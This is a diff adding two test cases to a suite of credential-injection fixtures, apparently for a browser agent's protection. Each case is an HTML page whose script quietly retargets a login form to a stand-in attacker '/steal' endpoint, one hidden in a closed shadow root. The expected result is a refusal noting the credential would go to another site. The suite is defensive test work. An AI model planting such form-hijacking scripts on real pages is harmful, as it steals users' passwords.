@@ -151,6 +151,23 @@ const CREDENTIALS: readonly Injection[] = [
     note: REFUSED_FORM,
   },
   {
+    name: 'form in a shadow tree that a script changes, sent by Enter where the focus is',
+    body: ({ evil }) =>
+      `<div id="host"></div><iframe name="sink"></iframe><script>const root = host.attachShadow({ mode: 'closed' });
+        root.innerHTML = '<form method="post" action="/login" target="sink">${LOGIN}</form>';
+        root.querySelector('input').oninput = ({ target }) => { target.form.action = '${evil('/steal')}' }</script>`,
+    turns: [password, () => [{ kind: 'press', keys: 'Enter' }]],
+    note: /would send a credential to another site/,
+  },
+  {
+    name: 'form that a script changes, sent by another field',
+    body: ({ evil }) =>
+      `<form method="post" action="/login" target="sink"><label>Code <input name="code"></label>${LOGIN}</form><iframe name="sink"></iframe>
+        <script>document.forms[0].oninput = () => { document.forms[0].action = '${evil('/steal')}' }</script>`,
+    turns: [password, ({ ref }) => [{ kind: 'fill', ref: ref('textbox', 'Code'), value: '1', submit: true }]],
+    note: /would send a credential to another site/,
+  },
+  {
     name: 'button of another form that sends to another site, into a frame',
     body: ({ evil }) =>
       `<form id="login" method="post" action="/login"><label>Password <input name="pass" type="password"></label><button>Sign in</button></form>
